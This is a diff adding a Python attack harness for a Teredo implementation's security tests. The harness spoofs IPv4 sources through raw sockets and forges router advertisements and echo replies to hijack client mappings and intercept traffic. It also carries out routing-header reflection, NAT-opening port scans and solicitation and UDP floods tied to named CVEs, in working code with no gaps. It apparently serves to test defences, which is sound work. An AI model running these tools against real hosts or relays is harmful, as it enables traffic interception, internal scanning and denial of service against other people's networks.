@@ -1,0 +1,581 @@
+#!/usr/bin/env python3
+"""tests/attacks/atk.py - the attacker's tools for tests/attacks/ (issue 5,
+[guard]): Teredo packets built from bytes (no scapy), spoofed IPv4 sources
+by a raw socket (IP_HDRINCL).  Each command prints one JSON object.
+
+  ra-spoof   --client IP:PORT --servers A,B --mapped IP:PORT [--prefix-server A]
+             [--duration S] [--interval S]
+      Router advertisements "from" SERVER:3544 (spoofed) to the client's
+      mapping, with a random nonce (D4, CLI-SQ-2: it cannot match the RS)
+      and an origin indication naming MAPPED: a client that accepts one
+      takes the attacker's mapping into its address.
+  echo-spoof --client IP:PORT --dst TEREDO --src IPV6 [--duration S]
+      ICMPv6 echo replies from SRC (a native host the client is ping-
+      testing, CLI-TX-2) with a wrong nonce (CLI-RX-5), from our own UDP
+      socket: a client that accepts one trusts us as SRC's relay and sends
+      us its queued packet, which we report (received, to).
+  rh0        --client IP:PORT --dst TEREDO --server IP --me IP
+             [--victim IPV6] [--wait S]
+      From our own Teredo address (our IP:port, a valid direct peer):
+      a plain echo request (control: the echo reply must come), then an
+      echo request behind a type 0 routing header with segments left 1
+      (D25, HARD-1, CVE-2006-6263): a host stack that sees it answers
+      with an ICMPv6 Parameter Problem, reflected to us.
+  spoof-bubble --via SERVER --src-ep IP:PORT --dst TEREDO [--count N]
+      Bubbles "from" SRC-EP (spoofed IPv4 source) to SERVER:3544, with the
+      Teredo source embedding SRC-EP: the server relays them with SRC-EP
+      as origin indication, and a client that answers sends a direct
+      bubble to SRC-EP (HARD-4, CVE-2006-6264: an internal address).
+  syn        --server IP --dst TEREDO --me IP --ports P,... [--wait S]
+      Bubble-to-open (CVE-2006-6265): an indirect bubble through SERVER;
+      once the client's direct bubble has opened its NAT to us, a TCP SYN
+      to each port; reports which were answered with SYN-ACK.
+  rs-flood   --server IP --id HEX --key FILE [--count N] [--rate R]
+             [--wait S] [--sources N]
+      Router solicitations with a valid HMAC (SRV-OP-5): counts the RAs.
+  rs-probe   --server IP --id HEX --key FILE [--count N] [--interval S]
+      A legitimate client: N solicitations, counts the RAs answered.
+  slowpeer   --server IP --me IP --port P [--delay S] [--duration S]
+      A legitimate Teredo client (its own public mapping) that answers the
+      relay's first bubble DELAY seconds late; counts what reaches it.
+  flood6     --count N [--size B] [--dsts N] [--rate R] [--server IP]
+             [--ports-from P] [--dst TEREDO]
+      From the native net: UDP datagrams of B bytes to DSTS distinct
+      Teredo addresses (flags 0: restricted clients that do not exist).
+"""
+import argparse
+import hashlib
+import hmac
+import ipaddress
+import json
+import os
+import random
+import select
+import socket
+import struct
+import sys
+import time
+
+TEREDO_PORT = 3544
+CLIENT_LL = ipaddress.IPv6Address("fe80::ffff:ffff:ffff").packed
+ALL_ROUTERS = ipaddress.IPv6Address("ff02::2").packed
+
+
+def csum(data):
+    if len(data) % 2:
+        data += b"\0"
+    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    while s >> 16:
+        s = (s & 0xFFFF) + (s >> 16)
+    return s
+
+
+def upper_csum(src, dst, nh, payload):
+    pseudo = src + dst + struct.pack("!I3xB", len(payload), nh)
+    c = (~csum(pseudo + payload)) & 0xFFFF
+    return c if c != 0 or nh != 17 else 0xFFFF
+
+
+def ip6(src, dst, nh, payload, hlim=64):
+    return struct.pack("!IHBB", 6 << 28, len(payload), nh, hlim) + src + \
+        dst + payload
+
+
+def icmp6_msg(src, dst, typ, code, body):
+    msg = struct.pack("!BBH", typ, code, 0) + body
+    c = upper_csum(src, dst, 58, msg)
+    return msg[:2] + struct.pack("!H", c) + msg[4:]
+
+
+def icmp6(src, dst, typ, code, body, hlim=64):
+    return ip6(src, dst, 58, icmp6_msg(src, dst, typ, code, body), hlim)
+
+
+def bubble(src, dst):
+    return ip6(src, dst, 59, b"", 64)
+
+
+def teredo_addr(server, ip, port, flags=0):
+    return (b"\x20\x01\x00\x00" + ipaddress.IPv4Address(server).packed +
+            struct.pack("!HH", flags, port ^ 0xFFFF) +
+            bytes(b ^ 0xFF for b in ipaddress.IPv4Address(ip).packed))
+
+
+def server_ll(server):
+    """COM-LL-2: fe80::8000:<~3544>:<~server IPv4>."""
+    return (b"\xfe\x80" + bytes(6) + struct.pack("!HH", 0x8000,
+            TEREDO_PORT ^ 0xFFFF) +
+            bytes(b ^ 0xFF for b in ipaddress.IPv4Address(server).packed))
+
+
+def origin_ind(ip, port):
+    return struct.pack("!HH", 0, port ^ 0xFFFF) + \
+        bytes(b ^ 0xFF for b in ipaddress.IPv4Address(ip).packed)
+
+
+def strip_teredo(data):
+    origin = None
+    if len(data) >= 2 and data[:2] == b"\x00\x01":
+        if len(data) < 13:
+            return None, None
+        idlen, aulen = data[2], data[3]
+        data = data[4 + idlen + aulen + 9:]
+    if len(data) >= 8 and data[:2] == b"\x00\x00":
+        port = struct.unpack("!H", data[2:4])[0] ^ 0xFFFF
+        ip = ipaddress.IPv4Address(bytes(b ^ 0xFF for b in data[4:8]))
+        origin = (str(ip), port)
+        data = data[8:]
+    return data, origin
+
+
+def ep(s):
+    host, port = s.rsplit(":", 1)
+    return host, int(port)
+
+
+def a6(b):
+    return str(ipaddress.IPv6Address(b))
+
+
+def final_nh(pkt):
+    """(next header, offset) of the upper layer of an IPv6 packet."""
+    nh, off = pkt[6], 40
+    while nh in (0, 43, 60) and off + 2 <= len(pkt):
+        nh, off = pkt[off], off + (pkt[off + 1] + 1) * 8
+    return nh, off
+
+
+class Raw4:
+    """Spoofed IPv4/UDP datagrams (IP_HDRINCL)."""
+
+    def __init__(self):
+        self.s = socket.socket(socket.AF_INET, socket.SOCK_RAW,
+                               socket.IPPROTO_RAW)
+        self.s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+        self.ident = random.randrange(65536)
+
+    def send(self, src, dst, payload):
+        (sip, sport), (dip, dport) = src, dst
+        udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
+        self.ident = (self.ident + 1) & 0xFFFF
+        hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), self.ident,
+                          0x4000, 64, 17, 0,
+                          ipaddress.IPv4Address(sip).packed,
+                          ipaddress.IPv4Address(dip).packed)
+        hdr = hdr[:10] + struct.pack("!H", (~csum(hdr)) & 0xFFFF) + hdr[12:]
+        self.s.sendto(hdr + udp, (dip, 0))
+
+
+def out(obj):
+    print(json.dumps(obj, sort_keys=True), flush=True)
+
+
+def recv_all(s, until, want=None):
+    """Datagrams until the time (or until want(data, frm) is true)."""
+    got = []
+    while True:
+        left = until - time.monotonic()
+        if left <= 0:
+            return got
+        r, _, _ = select.select([s], [], [], left)
+        if not r:
+            return got
+        data, frm = s.recvfrom(65535)
+        got.append((data, frm))
+        if want is not None and want(data, frm):
+            return got
+
+
+# ---- ra-spoof ----------------------------------------------------------------
+
+def build_ra(server, mapped, nonce):
+    prefix = b"\x20\x01\x00\x00" + ipaddress.IPv4Address(server).packed + \
+        bytes(8)
+    # RFC 4861 4.2: hop limit, flags, lifetime 1800 s, reachable, retrans;
+    # Prefix Information (type 3, len 4): /64, L=0 A=1, lifetimes.
+    body = struct.pack("!BBHII", 0, 0, 1800, 0, 0)
+    body += struct.pack("!BBBBIII", 3, 4, 64, 0x40, 0xFFFFFFFF, 0xFFFFFFFF,
+                        0) + prefix
+    src = server_ll(server)
+    pkt = icmp6(src, CLIENT_LL, 134, 0, body, hlim=255)
+    auth = b"\x00\x01\x00\x00" + nonce + b"\x00"
+    return auth + origin_ind(*mapped) + pkt
+
+
+def cmd_ra_spoof(a):
+    raw = Raw4()
+    client = ep(a.client)
+    mapped = ep(a.mapped)
+    servers = a.servers.split(",")
+    pserver = a.prefix_server or servers[0]
+    sent = 0
+    end = time.monotonic() + a.duration
+    while time.monotonic() < end:
+        for srv in servers:
+            raw.send((srv, TEREDO_PORT), client,
+                     build_ra(pserver, mapped, os.urandom(8)))
+            sent += 1
+        time.sleep(a.interval)
+    out({"sent": sent})
+
+
+# ---- echo-spoof --------------------------------------------------------------
+
+def cmd_echo_spoof(a):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind(("0.0.0.0", a.bind))
+    client = ep(a.client)
+    dst = ipaddress.IPv6Address(a.dst).packed
+    src = ipaddress.IPv6Address(a.src).packed
+    sent, received, to = 0, 0, set()
+    end = time.monotonic() + a.duration
+    while time.monotonic() < end:
+        # a wrong nonce: 8 random bytes, a random identifier
+        body = struct.pack("!HH", random.randrange(65536), 1) + os.urandom(8)
+        s.sendto(icmp6(src, dst, 129, 0, body), client)
+        sent += 1
+        for data, frm in recv_all(s, time.monotonic() + a.interval):
+            pkt, _ = strip_teredo(data)
+            if pkt and len(pkt) >= 40:
+                received += 1
+                to.add(a6(pkt[24:40]))
+    out({"sent": sent, "received": received, "to": sorted(to),
+         "local": s.getsockname()[1]})
+
+
+# ---- rh0 -----------------------------------------------------------------------
+
+def cmd_rh0(a):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind((a.me, 0))
+    port = s.getsockname()[1]
+    me = teredo_addr(a.server, a.me, port)
+    client = ep(a.client)
+    dst = ipaddress.IPv6Address(a.dst).packed
+    victim = ipaddress.IPv6Address(a.victim).packed
+    res = {"me": a6(me)}
+
+    def kinds(got):
+        k = []
+        for data, _ in got:
+            pkt, _ = strip_teredo(data)
+            if not pkt or len(pkt) < 40:
+                continue
+            nh, off = final_nh(pkt)
+            if nh == 59:
+                k.append("bubble")
+            elif nh == 58 and off < len(pkt):
+                k.append("icmp6-%d" % pkt[off])
+            else:
+                k.append("nh-%d" % nh)
+        return k
+
+    # control: a plain echo request from a valid direct peer
+    ident = random.randrange(65536)
+    res["control"] = []
+    for i in range(3):
+        s.sendto(icmp6(me, dst, 128, 0, struct.pack("!HH", ident, i) +
+                       b"control!"), client)
+        res["control"] += kinds(recv_all(s, time.monotonic() + 0.5))
+        if "icmp6-129" in res["control"]:
+            break
+    # the attack: RH0 (type 0, segments left 1, one address: the victim)
+    res["attack"] = []
+    for i in range(3):
+        echo = icmp6_msg(me, victim, 128, 0,
+                         struct.pack("!HH", ident, 100 + i) + b"reflect!")
+        rh = struct.pack("!BBBBI", 58, 2, 0, 1, 0) + victim
+        s.sendto(ip6(me, dst, 43, rh + echo), client)
+        res["attack"] += kinds(recv_all(s, time.monotonic() + a.wait / 3))
+    res["param_problem"] = res["attack"].count("icmp6-4")
+    out(res)
+
+
+# ---- spoof-bubble -----------------------------------------------------------------
+
+def cmd_spoof_bubble(a):
+    raw = Raw4()
+    sep = ep(a.src_ep)
+    src = teredo_addr(a.via, sep[0], sep[1])
+    dst = ipaddress.IPv6Address(a.dst).packed
+    for _ in range(a.count):
+        raw.send(sep, (a.via, TEREDO_PORT), bubble(src, dst))
+        time.sleep(a.interval)
+    out({"sent": a.count, "src": a6(src)})
+
+
+# ---- syn ------------------------------------------------------------------------
+
+def tcp_syn(src, dst, sport, dport, seq):
+    seg = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02,
+                      65535, 0, 0)
+    c = upper_csum(src, dst, 6, seg)
+    return ip6(src, dst, 6, seg[:16] + struct.pack("!H", c) + seg[18:])
+
+
+def cmd_syn(a):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind((a.me, 0))
+    port = s.getsockname()[1]
+    me = teredo_addr(a.server, a.me, port)
+    dst = ipaddress.IPv6Address(a.dst).packed
+    res = {"me": a6(me), "opened": False, "synack": {}, "rst": {}}
+    peer = None
+    # 1. the indirect bubble, until the client's direct bubble opens its NAT
+    for _ in range(4):
+        s.sendto(bubble(me, dst), (a.server, TEREDO_PORT))
+        for data, frm in recv_all(s, time.monotonic() + 0.7):
+            if frm[0] != a.server:
+                peer = frm
+        if peer:
+            break
+    if peer is None:
+        out(res)
+        return
+    res["opened"] = True
+    res["client"] = "%s:%d" % peer
+    s.sendto(bubble(me, dst), peer)
+    # 2. a SYN to each port, three tries each
+    for p in [int(x) for x in a.ports.split(",")]:
+        res["synack"][str(p)] = False
+        res["rst"][str(p)] = False
+        for i in range(3):
+            s.sendto(tcp_syn(me, dst, 40000 + i, p, random.randrange(1 << 32)),
+                     peer)
+            for data, frm in recv_all(s, time.monotonic() + a.wait / 3):
+                pkt, _ = strip_teredo(data)
+                if not pkt or len(pkt) < 40:
+                    continue
+                nh, off = final_nh(pkt)
+                if nh != 6 or off + 14 > len(pkt):
+                    continue
+                sp = struct.unpack("!H", pkt[off:off + 2])[0]
+                flags = pkt[off + 13]
+                if sp == p and flags & 0x12 == 0x12:
+                    res["synack"][str(p)] = True
+                if sp == p and flags & 0x04:
+                    res["rst"][str(p)] = True
+            if res["synack"][str(p)]:
+                break
+    out(res)
+
+
+# ---- rs-flood / rs-probe ------------------------------------------------------------
+
+def build_rs(cid, key):
+    nonce = os.urandom(8)
+    rs = icmp6(CLIENT_LL, ALL_ROUTERS, 133, 0, bytes(4), hlim=255)
+    mac = hmac.new(key, nonce + b"\x00" + rs, hashlib.sha1).digest()
+    return b"\x00\x01" + bytes([len(cid), 20]) + cid + mac + nonce + \
+        b"\x00" + rs
+
+
+def is_ra(data):
+    pkt, _ = strip_teredo(data)
+    return bool(pkt) and len(pkt) > 40 and pkt[6] == 58 and pkt[40] == 134
+
+
+def cmd_rs_flood(a):
+    key = open(a.key, "rb").read()
+    cid = bytes.fromhex(a.id)
+    socks = []
+    for _ in range(a.sources):
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
+        s.setblocking(False)
+        socks.append(s)
+    srv = (a.server, TEREDO_PORT)
+    pkts = [build_rs(cid, key) for _ in range(64)]
+    sent = ras = 0
+    start = time.monotonic()
+    gap = 1.0 / a.rate if a.rate else 0
+    nxt = start
+
+    def drain():
+        n = 0
+        for s in socks:
+            while True:
+                try:
+                    data, _ = s.recvfrom(2048)
+                except BlockingIOError:
+                    break
+                n += is_ra(data)
+        return n
+
+    for i in range(a.count):
+        try:
+            socks[i % len(socks)].sendto(pkts[i % len(pkts)], srv)
+            sent += 1
+        except (BlockingIOError, OSError):
+            pass
+        if gap:
+            nxt += gap
+            d = nxt - time.monotonic()
+            if d > 0:
+                time.sleep(d)
+        if i % 256 == 0:
+            ras += drain()
+    elapsed = time.monotonic() - start
+    end = time.monotonic() + a.wait
+    while time.monotonic() < end:
+        select.select(socks, [], [], 0.05)
+        ras += drain()
+    out({"sent": sent, "ras": ras, "seconds": round(elapsed, 3)})
+
+
+def cmd_rs_probe(a):
+    key = open(a.key, "rb").read()
+    cid = bytes.fromhex(a.id)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    srv = (a.server, TEREDO_PORT)
+    answered = 0
+    for _ in range(a.count):
+        s.sendto(build_rs(cid, key), srv)
+        got = recv_all(s, time.monotonic() + a.interval,
+                       lambda d, f: is_ra(d))
+        if any(is_ra(d) for d, _ in got):
+            answered += 1
+            time.sleep(max(0, a.interval - 0.0))
+    out({"sent": a.count, "answered": answered})
+
+
+# ---- slowpeer -----------------------------------------------------------------------
+
+def cmd_slowpeer(a):
+    """A legitimate Teredo client with its own public mapping (no NAT)
+    that answers the relay's first bubble only after DELAY seconds, so
+    that the relay must queue its traffic meanwhile; counts the non-bubble
+    packets to its address."""
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind((a.me, a.port))
+    me = teredo_addr(a.server, a.me, a.port)
+    print(json.dumps({"teredo": a6(me)}), flush=True)
+    res = {"teredo": a6(me), "bubbles": 0, "received": 0, "answered": False}
+    answer_at = answer = None
+    end = time.monotonic() + a.duration
+    while time.monotonic() < end:
+        until = end if answer_at is None or res["answered"] else answer_at
+        for data, frm in recv_all(s, until, lambda d, f: True):
+            pkt, origin = strip_teredo(data)
+            if not pkt or len(pkt) < 40 or pkt[24:40] != me:
+                continue
+            if final_nh(pkt)[0] == 59 and pkt[4:6] == b"\0\0":
+                res["bubbles"] += 1
+                if answer_at is None:
+                    answer_at = time.monotonic() + a.delay
+                    answer = (pkt[8:24], origin or frm)
+            else:
+                res["received"] += 1
+        if (answer_at is not None and not res["answered"] and
+                time.monotonic() >= answer_at):
+            s.sendto(bubble(me, answer[0]), answer[1])
+            res["answered"] = True
+            res["answered_to"] = "%s:%d" % answer[1]
+    out(res)
+
+
+# ---- flood6 ------------------------------------------------------------------------
+
+def cmd_flood6(a):
+    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
+    rnd = random.Random(a.seed)
+    dsts = [(a.dst, 9)] if a.dst else []
+    for i in range(0 if a.dst else a.dsts):
+        # global mappings on the public nets, ports that nobody has
+        ip = "198.51.100.%d" % (200 + rnd.randrange(50))
+        dsts.append((a6(teredo_addr(a.server, ip, a.ports_from + i)), 9))
+    data = b"\xa5" * a.size
+    sent = err = 0
+    start = time.monotonic()
+    gap = 1.0 / a.rate if a.rate else 0
+    nxt = start
+    for i in range(a.count):
+        try:
+            s.sendto(data, dsts[i % len(dsts)])
+            sent += 1
+        except OSError:
+            err += 1
+        if gap and i % 16 == 15:
+            nxt += 16 * gap
+            d = nxt - time.monotonic()
+            if d > 0:
+                time.sleep(d)
+    out({"sent": sent, "errors": err,
+         "seconds": round(time.monotonic() - start, 3)})
+
+
+def main():
+    ap = argparse.ArgumentParser()
+    sub = ap.add_subparsers(dest="cmd", required=True)
+    p = sub.add_parser("ra-spoof")
+    p.add_argument("--client", required=True)
+    p.add_argument("--servers", required=True)
+    p.add_argument("--prefix-server")
+    p.add_argument("--mapped", required=True)
+    p.add_argument("--duration", type=float, default=3)
+    p.add_argument("--interval", type=float, default=0.01)
+    p = sub.add_parser("echo-spoof")
+    p.add_argument("--client", required=True)
+    p.add_argument("--dst", required=True)
+    p.add_argument("--src", required=True)
+    p.add_argument("--bind", type=int, default=0)
+    p.add_argument("--duration", type=float, default=4)
+    p.add_argument("--interval", type=float, default=0.01)
+    p = sub.add_parser("rh0")
+    p.add_argument("--client", required=True)
+    p.add_argument("--dst", required=True)
+    p.add_argument("--server", required=True)
+    p.add_argument("--me", required=True)
+    p.add_argument("--victim", default="2001:db8:66::1")
+    p.add_argument("--wait", type=float, default=3)
+    p = sub.add_parser("spoof-bubble")
+    p.add_argument("--via", required=True)
+    p.add_argument("--src-ep", required=True)
+    p.add_argument("--dst", required=True)
+    p.add_argument("--count", type=int, default=5)
+    p.add_argument("--interval", type=float, default=0.3)
+    p = sub.add_parser("syn")
+    p.add_argument("--server", required=True)
+    p.add_argument("--dst", required=True)
+    p.add_argument("--me", required=True)
+    p.add_argument("--ports", required=True)
+    p.add_argument("--wait", type=float, default=2)
+    p = sub.add_parser("rs-flood")
+    p.add_argument("--server", required=True)
+    p.add_argument("--id", required=True)
+    p.add_argument("--key", required=True)
+    p.add_argument("--count", type=int, default=20000)
+    p.add_argument("--rate", type=float, default=0)
+    p.add_argument("--wait", type=float, default=1)
+    p.add_argument("--sources", type=int, default=1)
+    p = sub.add_parser("rs-probe")
+    p.add_argument("--server", required=True)
+    p.add_argument("--id", required=True)
+    p.add_argument("--key", required=True)
+    p.add_argument("--count", type=int, default=20)
+    p.add_argument("--interval", type=float, default=0.1)
+    p = sub.add_parser("flood6")
+    p.add_argument("--count", type=int, default=20000)
+    p.add_argument("--size", type=int, default=64)
+    p.add_argument("--dsts", type=int, default=20000)
+    p.add_argument("--rate", type=float, default=0)
+    p.add_argument("--server", default="192.0.2.10")
+    p.add_argument("--ports-from", type=int, default=20000)
+    p.add_argument("--seed", type=int, default=1)
+    p.add_argument("--dst")
+    p = sub.add_parser("slowpeer")
+    p.add_argument("--server", required=True)
+    p.add_argument("--me", required=True)
+    p.add_argument("--port", type=int, required=True)
+    p.add_argument("--delay", type=float, default=0.5)
+    p.add_argument("--duration", type=float, default=4)
+    a = ap.parse_args()
+    {"ra-spoof": cmd_ra_spoof, "echo-spoof": cmd_echo_spoof, "rh0": cmd_rh0,
+     "spoof-bubble": cmd_spoof_bubble, "syn": cmd_syn,
+     "rs-flood": cmd_rs_flood, "rs-probe": cmd_rs_probe,
+     "flood6": cmd_flood6, "slowpeer": cmd_slowpeer}[a.cmd](a)
+
+
+if __name__ == "__main__":
+    sys.exit(main())
